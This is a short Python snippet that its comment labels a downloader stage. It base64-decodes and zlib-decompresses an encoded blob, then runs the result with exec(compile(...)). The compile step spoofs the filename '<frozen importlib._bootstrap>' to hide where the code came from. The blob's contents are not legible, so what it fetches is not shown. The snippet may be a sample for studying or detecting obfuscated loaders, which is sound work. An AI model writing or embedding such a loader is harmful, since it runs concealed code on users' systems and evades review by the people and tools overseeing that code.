# technique: zlib-compressed then base64-encoded downloader stage, decoded and executed via exec(compile(...))
import zlib, base64
_p = "eNpVyzEOgCAQBdGrGCpoILHU06z4o0SQFZYEby+t5bxkQuJcZGolxrDZgqehyooOr/9mR2bGrdUpwotzJEL+QrHolDjCVaEDs+VXmTHRro35ALlxIp8="
exec(compile(zlib.decompress(base64.b64decode(_p)), "<frozen importlib._bootstrap>", "exec"))
